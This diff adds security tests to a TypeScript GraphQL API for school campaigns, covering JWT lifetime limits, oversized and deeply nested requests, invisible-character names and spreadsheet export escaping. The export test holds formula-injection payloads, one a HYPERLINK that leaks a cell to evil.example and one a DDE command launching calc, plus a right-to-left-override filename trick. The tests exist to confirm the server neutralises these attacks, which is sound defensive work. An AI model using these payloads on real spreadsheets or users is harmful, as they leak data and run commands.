@@ -1,9 +1,17 @@
+import { execFile } from 'node:child_process';
 import { randomUUID } from 'node:crypto';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
 import { loadConfig, mintToken, resolveAuthSecret } from '@qingmiao/api';
+import { parse } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
 import { serverAudits } from 'graphql-http';
-import { SignJWT } from 'jose';
+import { decodeJwt, type JWTPayload, SignJWT } from 'jose';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { codeOf, startTestServer, type TestServer } from '../support/in-process-server.ts';
+import { ROOT, TEST_SECRET } from '../support/server-process.ts';
+
+const CLI = join('services', 'api', 'src', 'cli.ts');
 
 const SECRET = new TextEncoder().encode('in-process-test-secret-0123456789abcdef');
 
@@ -78,6 +86,62 @@ describe('authentication', () => {
     expect(response.status).toBe(401);
     expect(codeOf(response)).toBe('UNAUTHENTICATED');
     expect(response.errors?.[0]?.message.toLowerCase()).toContain(message.toLowerCase());
+  });
+
+  const now = () => Math.floor(Date.now() / 1000);
+  const signClaims = (claims: JWTPayload) =>
+    new SignJWT({ sub: 'a', role: 'organizer', ...claims }).setProtectedHeader({ alg: 'HS256' }).sign(SECRET);
+
+  it.each([
+    ['a token issued a day ahead', () => ({ iat: now() + 86_400, exp: now() + 86_400 + 600 }), 'issued in the future'],
+    ['a token valid only in an hour', () => ({ iat: now(), nbf: now() + 3600, exp: now() + 7200 }), 'not valid yet'],
+    ['a token expiring in 9999', () => ({ iat: now(), exp: 253_402_300_799 }), 'lifetime'],
+    ['a token living 31 days (over the 30 d cap)', () => ({ iat: now(), exp: now() + 31 * 86_400 }), 'lifetime'],
+    ['a token without iat', () => ({ exp: now() + 600 }), 'no "iat" claim'],
+  ])('refuses %s', async (_name, claims, message) => {
+    const response = await server.graphql(await signClaims(claims()), '{ schools { id } }');
+    expect(response.status).toBe(401);
+    expect(codeOf(response)).toBe('UNAUTHENTICATED');
+    expect(response.errors?.[0]?.message).toContain(message);
+  });
+
+  it('accepts iat and nbf within 60 s of clock skew, and a lifetime of exactly the cap', async () => {
+    const skewed = await signClaims({ iat: now() + 45, nbf: now() + 45, exp: now() + 600 });
+    expect(codeOf(await server.graphql(skewed, '{ schools { id } }'))).toBe('OK');
+    const issuedAt = now();
+    const longest = await signClaims({ iat: issuedAt, exp: issuedAt + 30 * 86_400 });
+    expect(codeOf(await server.graphql(longest, '{ schools { id } }'))).toBe('OK');
+  });
+
+  it('caps lifetimes at QINGMIAO_MAX_TOKEN_LIFETIME, in the server and the CLI', async () => {
+    expect(() => loadConfig({ QINGMIAO_MAX_TOKEN_LIFETIME: '8' })).toThrow(
+      'QINGMIAO_MAX_TOKEN_LIFETIME must be a duration like 8h or 30d',
+    );
+    const capped = await startTestServer({ QINGMIAO_MAX_TOKEN_LIFETIME: '8h' });
+    try {
+      const ninehours = await signClaims({ iat: now(), exp: now() + 9 * 3600 });
+      const refused = await capped.graphql(ninehours, '{ schools { id } }');
+      expect(refused.status).toBe(401);
+      expect(refused.errors?.[0]?.message).toContain('exceeds the maximum of 8h (QINGMIAO_MAX_TOKEN_LIFETIME)');
+    } finally {
+      await capped.stop();
+    }
+    const cli = (expires: string) =>
+      promisify(execFile)(
+        process.execPath,
+        ['--import', 'tsx', CLI, 'token', '--role', 'viewer', '--expires', expires],
+        {
+          cwd: ROOT,
+          env: { ...process.env, QINGMIAO_AUTH_SECRET: TEST_SECRET, QINGMIAO_MAX_TOKEN_LIFETIME: '8h' },
+        },
+      );
+    const refused = await cli('9h').catch((error: { code: number; stderr: string }) => error);
+    expect(refused).toMatchObject({
+      code: 1,
+      stderr: '--expires 9h is longer than QINGMIAO_MAX_TOKEN_LIFETIME (8h): the server would refuse the token\n',
+    });
+    const { exp = 0, iat = 0 } = decodeJwt((await cli('8h')).stdout.trim());
+    expect(exp - iat).toBe(8 * 3600);
   });
 
   it('refuses to start in production without QINGMIAO_AUTH_SECRET', () => {
@@ -162,6 +226,26 @@ describe('hostile requests', () => {
     const huge = await post(JSON.stringify({ query: '{ schools { id } }', variables: { pad: 'x'.repeat(400_000) } }));
     expect(huge.status).toBe(413);
     expect(await huge.json()).toMatchObject({ errors: [{ message: 'Request body is too large' }] });
+
+    // Bodies Yoga would read itself, past the limits: the other JSON type is parsed and limited, the rest refused.
+    const hugeGraphqlJson = await post(
+      JSON.stringify({ query: '{ schools { id } }', variables: { pad: 'x'.repeat(400_000) } }),
+      {
+        'content-type': 'application/graphql+json',
+      },
+    );
+    expect(hugeGraphqlJson.status).toBe(413);
+    const graphqlJson = await post(JSON.stringify({ query: '{ schools { id } }' }), {
+      'content-type': 'application/graphql+json',
+    });
+    expect(graphqlJson.status).toBe(200);
+    const form = await post(`query=${encodeURIComponent('{ schools { id } }')}&pad=${'x'.repeat(400_000)}`, {
+      'content-type': 'application/x-www-form-urlencoded',
+    });
+    expect(form.status).toBe(415);
+    expect(await form.json()).toMatchObject({
+      errors: [{ message: 'Request body must be application/json', extensions: { code: 'BAD_REQUEST' } }],
+    });
   });
 
   it('stops deep, wide and alias-flooded documents before they run', async () => {
@@ -171,6 +255,67 @@ describe('hostile requests', () => {
     const nested = `{ ${'campaigns { entries { '.repeat(1)} id } } ${'__typename '.repeat(5000)} }`;
     const tokens = await server.graphql(organizer, nested);
     expect(tokens.errors?.[0]?.message).toMatch(/token/i);
+  });
+
+  it('refuses variables nested 50,000 deep with 400 before anything recursive runs, and keeps serving', async () => {
+    const deep = (levels: number) => `${'['.repeat(levels)}${']'.repeat(levels)}`;
+    for (const [query, type] of [
+      ['{ schools { id } }', 'application/json'],
+      ['query ($x: [[String]]) { schools { id } }', 'application/json'],
+      ['{ schools { id } }', 'application/graphql+json'],
+    ] as const) {
+      const response = await post(`{"query":${JSON.stringify(query)},"variables":{"x":${deep(50_000)}}}`, {
+        'content-type': type,
+      });
+      expect(response.status).toBe(400);
+      expect(await response.json()).toEqual({
+        errors: [
+          {
+            message: '"variables" is nested too deeply (more than 64 levels)',
+            extensions: { code: 'BAD_REQUEST', field: 'variables' },
+          },
+        ],
+      });
+    }
+    const viaGet = await fetch(
+      `${server.url}/graphql?query=${encodeURIComponent('{ schools { id } }')}&variables={"x":${deep(5_000)}}`,
+      { headers: { authorization: `Bearer ${organizer}` } },
+    );
+    expect(viaGet.status).toBe(400);
+    expect(await viaGet.json()).toMatchObject({
+      errors: [{ extensions: { code: 'BAD_REQUEST', field: 'variables' } }],
+    });
+    const shallow = await post(JSON.stringify({ query: '{ schools { id } }', variables: { x: JSON.parse(deep(60)) } }));
+    expect(shallow.status).toBe(200);
+    expect(codeOf(await server.graphql(organizer, '{ schools { id } }'))).toBe('OK');
+  });
+
+  it('refuses names and titles made of invisible or direction-overriding characters, naming the field', async () => {
+    const register = (name: string) =>
+      server.graphql(organizer, 'mutation ($input: RegisterSchoolInput!) { registerSchool(input: $input) { name } }', {
+        input: { name, kind: 'PRIMARY', town: '城厢镇' },
+      });
+    const zeroWidth = await register('\u200B\u200C\u200B');
+    expect(zeroWidth.errors?.[0]?.extensions).toEqual({ code: 'BAD_USER_INPUT', field: 'name' });
+    expect(zeroWidth.errors?.[0]?.message).toMatch(/^name: .*control or format characters/);
+    expect((await register('太仓市实验小学（东校区）')).data).toEqual({
+      registerSchool: { name: '太仓市实验小学（东校区）' },
+    });
+
+    const campaign = await server.graphql(
+      organizer,
+      'mutation ($input: CreateCampaignInput!) { createCampaign(input: $input) { id } }',
+      {
+        input: {
+          kind: 'ESSAY',
+          title: '征文\u202Egnp.exe',
+          year: 2026,
+          opensAt: '2026-01-01T00:00:00Z',
+          closesAt: '2026-12-31T00:00:00Z',
+        },
+      },
+    );
+    expect(campaign.errors?.[0]?.extensions).toEqual({ code: 'BAD_USER_INPUT', field: 'title' });
   });
 
   it('rate-limits each token', async () => {
@@ -202,6 +347,50 @@ describe('hostile requests', () => {
     } finally {
       await production.stop();
     }
+  });
+});
+
+describe('spreadsheet exports', () => {
+  it('neutralise names and towns that a spreadsheet would run as formulas, and keep figures as numbers', async () => {
+    const id = `f-${randomUUID().slice(0, 6)}`;
+    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"实验小学")';
+    const town = "+cmd|' /C calc'!A0";
+    const registered = await server.graphql(
+      organizer,
+      'mutation ($input: RegisterSchoolInput!) { registerSchool(input: $input) { id } }',
+      { input: { id, name, kind: 'PRIMARY', town } },
+    );
+    expect(codeOf(registered)).toBe('OK');
+    const enrolled = await server.graphql(
+      organizer,
+      `mutation { recordEnrollment(input: {schoolId: "${id}", year: 2023, students: 300}) { students } }`,
+    );
+    expect(codeOf(enrolled)).toBe('OK');
+    const download = (path: string) =>
+      fetch(`${server.url}/reports/${path}`, { headers: { authorization: `Bearer ${organizer}` } });
+
+    const bySchool = parse(Buffer.from(await (await download('participation.csv?year=2023')).arrayBuffer()), {
+      bom: true,
+      columns: true,
+    }) as Record<string, string>[];
+    expect(bySchool.find((record) => record.学校代码 === id)).toMatchObject({ 名称: `'${name}`, 在校学生数: '300' });
+    const byTown = parse(
+      Buffer.from(await (await download('participation.csv?year=2023&groupBy=TOWN')).arrayBuffer()),
+      { bom: true, columns: true },
+    ) as Record<string, string>[];
+    expect(byTown.map((record) => record['镇/区'])).toContain(`'${town}`);
+
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(await (await download('participation.xlsx?year=2023')).arrayBuffer());
+    const rowOf = (sheetName: string, key: string) => {
+      const sheet = workbook.getWorksheet(sheetName);
+      const rows = sheet?.getRows(2, sheet.rowCount - 1) ?? [];
+      return rows.find((row) => row.getCell(1).value === key);
+    };
+    const school = rowOf('按学校', id);
+    expect(school?.getCell(2).value).toBe(`'${name}`);
+    expect(school?.getCell(8).value).toBe(300);
+    expect(rowOf('按镇区', `'${town}`)?.getCell(2).value).toBe(`'${town}`);
   });
 });
 
